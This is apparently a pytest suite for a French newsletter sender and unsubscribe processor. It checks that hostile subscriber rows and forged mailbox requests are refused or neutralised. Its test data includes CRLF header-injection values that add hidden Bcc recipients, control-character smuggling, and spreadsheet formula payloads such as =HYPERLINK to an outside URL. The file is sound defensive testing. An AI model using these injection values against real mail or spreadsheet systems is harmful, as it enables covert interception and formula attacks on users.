"""Sending and unsubscribing with a hostile subscriber file and a hostile mailbox.

Every delivered message comes from a real aiosmtpd and is parsed with the
email package's strict policy: no defect, one recipient, a real Date.
"""

from __future__ import annotations

import csv
import datetime as dt
import email.message
import email.policy
import io
import mailbox
import re
import subprocess
import tempfile
import threading
from email.parser import BytesParser
from pathlib import Path

import pytest
from aiosmtpd.controller import Controller
from hypothesis import HealthCheck, event, given, settings, strategies as st

from conftest import free_port, letter_editions, write_content
from newsletter import fields, send as sending, unsubscribes
from test_newsletter_editions import FILES
from test_send import send_command, subscribers_file

TIERS = {"public", "abonnes", "cercle"}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


class Envelopes:
    """Keeps every envelope whole: sender, all recipients, the bytes."""

    def __init__(self):
        self.received: list[tuple[str, list[str], bytes]] = []
        self.script: dict[str, str] = {}
        self.lock = threading.Lock()

    async def handle_DATA(self, server, session, envelope):
        reply = self.script.get(envelope.rcpt_tos[0])
        if reply:
            return reply
        with self.lock:
            self.received.append((envelope.mail_from, list(envelope.rcpt_tos),
                                  envelope.original_content or envelope.content))
        return "250 Message accepté"

    def clear(self):
        with self.lock:
            self.received.clear()


@pytest.fixture(scope="module")
def server():
    recorder = Envelopes()
    controller = Controller(recorder, hostname="127.0.0.1", port=free_port())
    controller.start()
    yield recorder, controller.port
    controller.stop()


@pytest.fixture
def smtp(server):
    recorder, port = server
    recorder.clear()
    recorder.script.clear()
    yield recorder, port


@pytest.fixture(scope="module")
def editions(tmp_path_factory):
    return letter_editions(tmp_path_factory.mktemp("envoi-hostile"), FILES)


def strict_parse(data: bytes) -> email.message.EmailMessage:
    """The message as the strict policy reads it; fails on any defect, message,
    part or header."""
    message = BytesParser(policy=email.policy.strict).parsebytes(data)
    for part in message.walk():
        assert not part.defects, part.defects
        for name, value in part.items():
            assert not getattr(value, "defects", ()), (name, value.defects)
    return message


def rfc2047_display_name(data: bytes) -> str:
    """The To display name as a mail reader shows it: adjacent encoded words
    joined (RFC 2047, 6.2), which Python's header parser does not do in a name."""
    from email.header import decode_header, make_header

    head = BytesParser(policy=email.policy.compat32).parsebytes(data, headersonly=True)
    raw = "".join(head["To"].splitlines()).rsplit("<", 1)[0].strip() if "<" in head["To"] else ""
    if raw.startswith('"'):
        return re.sub(r"\\(.)", r"\1", raw[1:-1])
    return str(make_header(decode_header(raw)))


def check_delivery(mail_from, rcpt_tos, data, expected: sending.Subscriber, others=()):
    """One delivered message: valid, one recipient in the envelope and in the
    headers, a real Date, nothing of anybody else."""
    assert rcpt_tos == [expected.email]
    assert mail_from == "claire@nenufar.example"
    assert b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b"")  # CRLF only
    message = strict_parse(data)
    for name in ("To", "Date", "Message-ID", "From", "Subject"):
        assert len(message.get_all(name) or []) == 1, name
    for name in ("Cc", "Bcc", "Resent-To", "Resent-Cc", "Resent-Bcc"):
        assert message.get_all(name) is None, name
    addresses = message["To"].addresses
    assert [a.addr_spec for a in addresses] == [expected.email]
    assert rfc2047_display_name(data) == expected.name
    date = message["Date"].datetime
    assert date is not None and date.tzinfo is not None
    assert abs(dt.datetime.now(dt.timezone.utc) - date) < dt.timedelta(minutes=5)
    assert message.get_content_type() in ("multipart/alternative", "multipart/related")
    assert b"NENUFAR-" not in data
    assert f"jeton={expected.token}" in str(message["List-Unsubscribe"])
    for other in others:
        if other.email != expected.email:
            assert other.email.encode() not in data and other.token.encode() not in data
    return message


def send(editions, port, people, folder: Path):
    journal = sending.Journal(folder / "envois.sqlite3")
    try:
        return sending.send_issue(editions, people, journal,
                                  sending.Mailer(sending.SmtpConfig("127.0.0.1", port, "none", None, None)),
                                  issue=2, sender="Claire Morvan <claire@nenufar.example>", unsubscribed=set(),
                                  retry_delays=())
    finally:
        journal.close()


HOSTILE = (
    "email,name,tier,token\r\n"
    'alice@exemple.fr,"Nom\r\nBcc: espion@exemple.invalid",public,jeton-alice\r\n'  # 2-3
    'bruno@exemple.fr,"Nom\r\n\r\n<h1>Piège</h1>",abonnes,jeton-bruno\r\n'  # 4-6
    "chloe@exemple.fr,Chloé\u2028Bcc: espion@exemple.fr,cercle,jeton-chloe\r\n"  # 7
    'dora@exemple.fr,"Dora\nBcc: espion@exemple.fr",public,jeton-dora00\r\n'  # 8-9
    "eve@exemple.fr,Eve\x00,public,jeton-eve000\r\n"  # 10
    "fanny@exemple.fr,Fanny\x85,public,jeton-fanny0\r\n"  # 11
    "gaspard@exemple.fr\u2029,Gaspard,public,jeton-gaspard\r\n"  # 12
    "hugo@exemple.fr,Hugo,public,jeton-hugo\x1b[2J\r\n"  # 13
    "ines@exemple.fr,Inès,public,jeton ines 01\r\n"  # 14
    'jules@exemple.fr,"Jules\rBcc: espion@exemple.fr",public,jeton-jules\r\n'  # 15-16: a lone CR ends a line too
    "karim@exemple.fr," + "K" * 201 + ",public,jeton-karim\r\n"  # 17
    "espion@exemple.invalid,Espion,public,jeton-espion\r\n"  # 18
    "léa@exemple.fr,Léa,public,jeton-lea000\r\n"  # 19
    # Accepted: text that looks like an encoded CR LF, markup, quotes, a long accented name.
    "marc@exemple.fr,=?utf-8?b?DQpCY2M6IGVzcGlvbkBleGVtcGxlLmZy?=,public,jeton-marc00\r\n"  # 20
    'nina@exemple.fr,"[/bold] ""Nina"" \\ <nina@exemple.fr>, espion@exemple.fr",abonnes,jeton-nina00\r\n'  # 21
    "oscar@xn--exmple-cva.fr," + "é" * 200 + ",cercle,-jeton-oscar\r\n"  # 22
    "paul@exémple.fr,Paul,public,jeton_paul\r\n"  # 23
)


def test_injection_rows_are_refused_by_line_and_the_others_arrive_clean(editions, smtp, tmp_path):
    recorder, port = smtp
    path = tmp_path / "abonnes.csv"
    path.write_bytes(HOSTILE.encode("utf-8"))
    people, problems = sending.read_subscribers(path, TIERS)
    assert [p.line for p in problems] == [2, 4, 7, 8, 10, 11, 12, 13, 14, 15, 17, 18, 19], problems
    assert {p.path for p in problems} == {"abonnes.csv"}
    problems = [str(p) for p in problems]
    assert problems[0] == ("abonnes.csv:2\u00a0: le nom contient un saut de ligne "
                           "(champ entre guillemets sur les lignes 2 à 3), ligne ignorée")
    assert "(champ entre guillemets sur les lignes 4 à 6)" in problems[1]
    assert "le nom contient un caractère de contrôle U+2028" in problems[2]
    assert "le nom contient un caractère de contrôle U+0000" in problems[4]
    assert "le nom contient un caractère de contrôle U+0085" in problems[5]
    assert "l’adresse contient un caractère de contrôle U+2029" in problems[6]
    assert "le jeton contient un caractère de contrôle U+001B" in problems[7]
    assert "jeton invalide pour ines@exemple.fr" in problems[8]
    assert "nom de 201 caractères pour karim@exemple.fr (200 au plus)" in problems[10]
    assert "adresse invalide «\u202fespion@exemple.invalid\u202f» (domaine réservé" in problems[11]
    assert "caractères accentués avant le «\u202f@\u202f»" in problems[12]
    assert [p.email for p in people] == ["marc@exemple.fr", "nina@exemple.fr", "oscar@xn--exmple-cva.fr",
                                         "paul@xn--exmple-cva.fr"]
    assert [p.line for p in people] == [20, 21, 22, 23]
    report = send(editions, port, people, tmp_path)
    assert len(report.sent) == 4 and not report.failed
    assert len(recorder.received) == 4
    for (mail_from, rcpt_tos, data), person in zip(recorder.received, people):
        check_delivery(mail_from, rcpt_tos, data, person, people)
    assert all(rcpt != ["espion@exemple.fr"] for _, rcpt, _ in recorder.received)
    ids = {strict_parse(data)["Message-ID"] for _, _, data in recorder.received}
    assert len(ids) == 4


def test_every_message_has_a_real_date_header(editions, smtp, tmp_path):
    """The regression: `Date:` went out empty (a placeholder the email package refused)."""
    recorder, port = smtp
    people, _ = sending.read_subscribers(subscribers_file(tmp_path, [
        "alice@exemple.fr,Alice Martin,public,jeton-alice", "bruno@exemple.fr,Bruno,abonnes,jeton-bruno",
        "chloe@exemple.fr,Chloé Hervé,cercle,jeton-chloe"]), TIERS)
    before = dt.datetime.now(dt.timezone.utc).replace(microsecond=0)
    send(editions, port, people, tmp_path)
    after = dt.datetime.now(dt.timezone.utc)
    assert len(recorder.received) == 3
    for mail_from, rcpt_tos, data in recorder.received:
        head = data.split(b"\r\n\r\n")[0]
        assert b"\r\nDate: \r\n" not in head and not head.startswith(b"Date: \r\n")
        message = check_delivery(mail_from, rcpt_tos, data, next(p for p in people if p.email == rcpt_tos[0]),
                                 people)
        assert before <= message["Date"].datetime <= after


def test_long_body_lines_stay_under_998_octets_with_the_longest_token(editions, smtp, tmp_path):
    recorder, port = smtp
    long_token = "T" * 128
    people, problems = sending.read_subscribers(subscribers_file(tmp_path, [
        f"alice@exemple.fr,Alice,cercle,{long_token}"]), TIERS)
    assert not problems
    send(editions, port, people, tmp_path)
    (_, _, data), = recorder.received
    assert max(len(line) for line in data.split(b"\r\n")) <= 998
    assert data.count(long_token.encode()) >= 4


def test_reflow_counts_the_token_a_placeholder_becomes():
    from newsletter.editions import TOKEN

    line = " ".join([f"https://x.fr/?jeton={TOKEN}"] * 40 + ["é" * 30] * 20)
    for piece in sending._reflow(line).split("\n"):
        assert len(piece.replace(TOKEN, "x" * 128).encode("utf-8")) <= 900


# Arbitrary names, addresses and tokens: a file:line refusal, or a clean message to one recipient.

@pytest.fixture(scope="module")
def hypothesis_server(server):
    return server


names = st.one_of(st.text(max_size=60), st.text(alphabet=st.characters(codec="utf-8"), max_size=220),
                  st.sampled_from(["=?utf-8?q?=0D=0ABcc:_x@exemple.fr?=", 'a"b\\c', "  ", "Chloé Hervé",
                                   "\u202eesrever", "x <y@exemple.fr>, z@exemple.fr"]))
addresses = st.one_of(st.emails(), st.text(max_size=40),
                      st.builds(lambda local, domain: f"{local}@{domain}",
                                st.text(max_size=12), st.sampled_from(["exemple.fr", "exémple.fr", "x.invalid"])))
tokens = st.one_of(st.from_regex(r"[A-Za-z0-9_-]{8,40}", fullmatch=True), st.text(max_size=30))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.tuples(addresses, names, st.sampled_from(sorted(TIERS)), tokens), min_size=1, max_size=3))
def test_any_subscriber_row_is_refused_by_line_or_sent_cleanly_to_one_recipient(editions, hypothesis_server, rows):
    recorder, port = hypothesis_server
    recorder.clear()
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(scratch)
        text = io.StringIO(newline="")
        writer = csv.writer(text, lineterminator="\r\n")
        writer.writerow(["email", "name", "tier", "token"])
        writer.writerows(rows)
        path = folder / "abonnes.csv"
        path.write_bytes(text.getvalue().encode("utf-8", errors="surrogatepass"))
        try:
            people, problems = sending.read_subscribers(path, TIERS)
        except sending.SendError as error:  # a whole-file problem is named by file:line too
            assert str(error).startswith("abonnes.csv:")
            return
        for problem in problems:
            assert problem.path == "abonnes.csv" and problem.message.endswith(", ligne ignorée")
            assert problem.line >= 2
        assert len(people) + len(problems) <= len(rows)
        event(f"{len(people)} sent")
        report = send(editions, port, people, folder)
        assert sorted(report.sent) == sorted(p.email for p in people)
        assert len(recorder.received) == len(people)
        for mail_from, rcpt_tos, data in recorder.received:
            person = next(p for p in people if p.email == rcpt_tos[0])
            check_delivery(mail_from, rcpt_tos, data, person)


# The CLI: untrusted text shown inert, never taken for rich markup.

def test_rich_markup_and_escapes_in_the_file_do_not_crash_a_dry_run_or_a_send(project, smtp):
    recorder, port = smtp
    write_content(project / "content", FILES)
    path = subscribers_file(project, ["[/bold]oops,Oops,public,jeton-oops00",
                                      "alice@exemple.fr,[/bold] Alice [red],public,jeton-alice",
                                      "\x1b[2Jbruno@exemple.fr,Bruno,abonnes,jeton-bruno",
                                      "chloe@exemple.fr,Chloé,cercle,jeton-chloe"])
    recorder.script["chloe@exemple.fr"] = "550 5.1.1 [/bold] boite inconnue [link=https://x]"
    command, env = send_command(project, port, path, "--dry-run")
    done = subprocess.run(command, cwd=project, env=env, capture_output=True, encoding="utf-8", timeout=120)
    assert done.returncode == 0, done.stderr
    assert "MarkupError" not in done.stderr and "\x1b" not in done.stderr
    assert "abonnes.csv:2\u00a0: adresse invalide «\u202f[/bold]oops\u202f»" in done.stderr
    assert "abonnes.csv:4\u00a0: l’adresse contient un caractère de contrôle U+001B" in done.stderr
    assert "2 destinataires" in done.stdout and recorder.received == []
    command, env = send_command(project, port, path)
    done = subprocess.run(command, cwd=project, env=env, capture_output=True, encoding="utf-8", timeout=120)
    assert done.returncode == 1, done.stderr  # chloe refused for good
    assert "Traceback" not in done.stderr and "\x1b" not in done.stderr
    assert "1 envoyé," in done.stdout and "1 en échec" in done.stdout
    assert ("échec définitif pour chloe@exemple.fr\u00a0: 550 5.1.1 [/bold] boite inconnue [link=https://x]"
            in done.stderr)
    (mail_from, rcpt_tos, data), = recorder.received
    assert rcpt_tos == ["alice@exemple.fr"]
    assert strict_parse(data)["To"].addresses[0].display_name == "[/bold] Alice [red]"


# Unsubscribes: proven by a token, or by the From address only.

SUBSCRIBERS = ["victime@exemple.fr,Victime,public,jeton-victime",
               "bruno@exemple.fr,Bruno,abonnes,jeton-bruno",
               "chloe@exemple.fr,Chloé,cercle,jeton-chloe",
               "dora@exemple.fr,Dora,public,-jeton-dora",
               "=1+1@exemple.fr,Formule,public,jeton-formule",
               "attaquant@exemple.fr,Attaquant,public,jeton-attaquant"]


def request(subject: str, sender: str = "Quelqu’un <quelquun@exemple.fr>", body: str = "",
            **headers) -> email.message.EmailMessage:
    message = email.message.EmailMessage()
    message["From"], message["To"], message["Subject"] = sender, "desabonnement@nenufar.example", subject
    message["Date"] = "Mon, 23 Nov 2026 09:00:00 +0100"
    for name, value in headers.items():
        message[name.replace("_", "-")] = value
    message.set_content(body)
    return message


def write_box(path: Path, messages) -> Path:
    box = mailbox.mbox(str(path))
    for message in messages:
        box.add(message)
    box.close()
    return path


def csv_rows(project) -> list[list[str]]:
    with (project / "private" / "unsubscribed.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def who_is_skipped(project) -> list[str]:
    import tempfile as tf

    with tf.TemporaryDirectory() as scratch:
        people, problems = sending.read_subscribers(subscribers_file(Path(scratch), SUBSCRIBERS), TIERS)
    assert not problems
    addresses, tokens = unsubscribes.unsubscribed(project / "private" / "unsubscribed.csv")
    return [p.email for p in people if sending.is_unsubscribed(p, addresses, tokens)]


def test_a_forged_request_does_not_unsubscribe_the_victim(project):
    from test_cli import invoke

    box = write_box(project / "boite.mbox", [
        request("unsubscribe", "Attaquant <attaquant@exemple.fr>", Reply_To="victime@exemple.fr"),
        request("Désabonnement", "attaquant@exemple.fr", Sender="victime@exemple.fr"),
    ])
    done = invoke(project, "unsubscribes", str(box))
    assert done.returncode == 0, done.stderr
    assert "1 nouvelle demande de désabonnement, 1 au total" in done.stdout
    assert "1 demande «\u202fsans jeton\u202f», qui vaut pour" in done.stdout
    assert "  • attaquant@exemple.fr (boite.mbox#0)" in done.stdout
    assert "victime" not in done.stdout
    assert [row[:2] for row in csv_rows(project)] == [["email", "token"], ["attaquant@exemple.fr", ""]]
    assert who_is_skipped(project) == ["attaquant@exemple.fr"]


def test_strict_counts_token_requests_only(project):
    from test_cli import invoke

    box = write_box(project / "boite.mbox", [
        request("unsubscribe", "Attaquant <attaquant@exemple.fr>", Reply_To="victime@exemple.fr"),
        request("desabonnement =HYPERLINK(\"https://x.example/\",\"clic\")", "attaquant@exemple.fr"),
    ])
    done = invoke(project, "unsubscribes", "--strict", str(box))
    assert done.returncode == 0, done.stderr
    assert "0 nouvelle demande de désabonnement, 0 au total" in done.stdout
    assert "boite.mbox#0\u00a0: demande sans jeton, écartée par --strict" in done.stdout
    assert "boite.mbox#1\u00a0: demande sans jeton (jeton mal formé), écartée par --strict" in done.stdout
    assert csv_rows(project) == [["email", "token", "date", "source"]]
    assert who_is_skipped(project) == []


def test_token_requests_by_subject_or_link_unsubscribe_the_token_holder(project):
    from test_cli import invoke

    box = write_box(project / "boite.mbox", [
        # The mailto link, sent from another address with a Reply-To: the token decides.
        request("desabonnement jeton-bruno", "Bruno perso <bruno.perso@exemple.fr>", Reply_To="victime@exemple.fr"),
        # The unsubscribe link pasted in the subject.
        request("Unsubscribe https://lettre.exemple.fr/desabonnement/?jeton=jeton-chloe", "chloe@ailleurs.fr"),
        # A reply by hand quoting the letter's link.
        request("Désabonnement svp", "dora@exemple.fr",
                "Merci de me retirer.\n> Se désabonner : https://lettre.exemple.fr/desabonnement/?jeton=-jeton-dora\n"),
    ])
    done = invoke(project, "unsubscribes", "--strict", str(box))
    assert done.returncode == 0, done.stderr
    assert "3 nouvelles demandes de désabonnement, 3 au total" in done.stdout
    assert "sans jeton" not in done.stdout
    rows = csv_rows(project)
    assert [row[:2] for row in rows[1:]] == [["bruno.perso@exemple.fr", "jeton-bruno"],
                                             ["chloe@ailleurs.fr", "jeton-chloe"],
                                             ["dora@exemple.fr", "'-jeton-dora"]]  # escaped for spreadsheets
    assert sorted(who_is_skipped(project)) == ["bruno@exemple.fr", "chloe@exemple.fr", "dora@exemple.fr"]


def test_formula_values_are_written_escaped_and_still_honoured(project):
    from test_cli import invoke

    box = write_box(project / "boite.mbox", [
        request("unsubscribe", "=1+1@exemple.fr"),  # a valid address that a spreadsheet would compute
        request("desabonnement =HYPERLINK(\"https://x.example/?\"&A1,\"clic\")", "+33@exemple.fr"),
        request("desabonnement @SUM(A1)", "-moins@exemple.fr"),
    ])
    done = invoke(project, "unsubscribes", str(box))
    assert done.returncode == 0, done.stderr
    rows = csv_rows(project)
    assert "HYPERLINK" not in (project / "private" / "unsubscribed.csv").read_text(encoding="utf-8")
    assert "SUM" not in (project / "private" / "unsubscribed.csv").read_text(encoding="utf-8")
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), row
    assert [row[0] for row in rows[1:]] == ["'=1+1@exemple.fr", "'+33@exemple.fr", "'-moins@exemple.fr"]
    assert all(row[1] == "" for row in rows[1:])  # a malformed token is no token
    assert "3 demandes «\u202fsans jeton\u202f», qui valent pour" in done.stdout
    assert who_is_skipped(project) == ["=1+1@exemple.fr"]
    again = invoke(project, "unsubscribes", str(box))  # read back: the same requests are known
    assert "0 nouvelle demande de désabonnement, 3 au total" in again.stdout


def test_requests_without_a_single_usable_from_are_refused_and_named(project):
    from test_cli import invoke

    def raw(*froms):
        return ("".join(f"From: {f}\n" for f in froms) + "To: desabonnement@nenufar.example\n"
                "Subject: unsubscribe\nDate: Mon, 23 Nov 2026 09:00:00 +0100\n\nMerci\n").encode()

    path = project / "[bold]boîte[red].mbox"
    write_box(path, [raw("attaquant@exemple.fr, victime@exemple.fr"), raw("attaquant@exemple.fr", "victime@exemple.fr"),
                     raw("pas une adresse")])
    done = invoke(project, "unsubscribes", str(path))
    assert done.returncode == 0, done.stderr
    assert "0 nouvelle demande" in done.stdout
    assert "[bold]boîte[red].mbox#0\u00a0: demande sans jeton et plusieurs adresses dans From" in done.stdout
    assert "[bold]boîte[red].mbox#1\u00a0: demande sans jeton et plusieurs en-têtes From" in done.stdout
    assert "[bold]boîte[red].mbox#2\u00a0: demande sans jeton et " in done.stdout


def test_a_file_written_before_the_escaping_reads_the_same(tmp_path):
    path = tmp_path / "unsubscribed.csv"
    path.write_text("email,token,date,source\n"
                    "Ancien@Exemple.FR,,2026-11-01,boite#1\n"
                    "bruno@exemple.fr,jeton-bruno,2026-11-01,boite#2\n"
                    "'apostrophe@exemple.fr,,2026-11-01,boite#3\n", encoding="utf-8")
    addresses, tokens = unsubscribes.unsubscribed(path)
    assert addresses == {"ancien@exemple.fr", "'apostrophe@exemple.fr"}
    assert tokens == {"jeton-bruno"}  # a line with a token counts for the token only


@given(st.text(max_size=20))
def test_csv_escaping_round_trips_and_never_starts_a_formula(value):
    cell = fields.csv_cell(value)
    assert not cell.startswith(FORMULA)
    assert fields.csv_value(cell) == value


def test_file_level_damage_is_named_by_line_and_nothing_is_sent(tmp_path):
    path = tmp_path / "abonnes.csv"
    path.write_bytes(b"email,name,tier,token\nalice@exemple.fr,Alice,public,jeton-alice\n"
                     b"andre@exemple.fr,Andr\xe9,public,jeton-andre\n")  # Latin-1, as a spreadsheet may save it
    with pytest.raises(sending.SendError, match="^abonnes.csv:3\u00a0: le fichier n’est pas en UTF-8 \\(octet 0xE9\\)"):
        sending.read_subscribers(path, TIERS)
    path.write_text("email,name,tier,token\nalice@exemple.fr,Alice,public,jeton-alice\n"
                    'bruno@exemple.fr,"Bruno' + "x" * 200_000 + "\n", encoding="utf-8")
    with pytest.raises(sending.SendError, match="^abonnes.csv:3\u00a0: fichier CSV illisible à partir de cette ligne "
                                                "\\(un champ dépasse 131\u202f072 caractères, sans doute un guillemet "
                                                "jamais refermé\\)"):
        sending.read_subscribers(path, TIERS)


header_text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\r\n"), max_size=60)


@settings(max_examples=150, deadline=None)
@given(sender=st.one_of(st.emails(), header_text), reply_to=st.one_of(st.emails(), header_text),
       subject=st.one_of(header_text, header_text.map(lambda t: "unsubscribe " + t),
                         st.from_regex(r"desabonnement [A-Za-z0-9_=()\"-]{0,20}", fullmatch=True)),
       body=st.text(max_size=200))
def test_any_mailbox_message_is_a_request_a_refusal_or_nothing_and_never_counts_for_reply_to(
        sender, reply_to, subject, body):
    raw = (f"From: {sender}\nReply-To: {reply_to}\nSender: {reply_to}\nSubject: {subject}\n"
           f"Date: Mon, 23 Nov 2026 09:00:00 +0100\n\n{body}\n").encode("utf-8")
    with tempfile.TemporaryDirectory() as scratch:
        path = write_box(Path(scratch) / "boite.mbox", [raw])
        gathered = unsubscribes.read_requests(path)
        assert len(gathered.requests) + len(gathered.refused) + gathered.others == 1
        for found in gathered.requests:
            assert found.token == "" or fields.valid_token(found.token)
            if found.tokenless:  # the From address, checked, or nothing
                assert found.email == fields.check_address(found.email)
                parsed = email.policy.default.header_factory("From", sender)
                assert fields.address_key(found.email) in {fields.address_key(a.addr_spec) for a in parsed.addresses}
        added, _ = unsubscribes.merge(gathered.requests, Path(scratch) / "unsubscribed.csv")
        with (Path(scratch) / "unsubscribed.csv").open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                assert not any(cell.startswith(FORMULA) for cell in row)
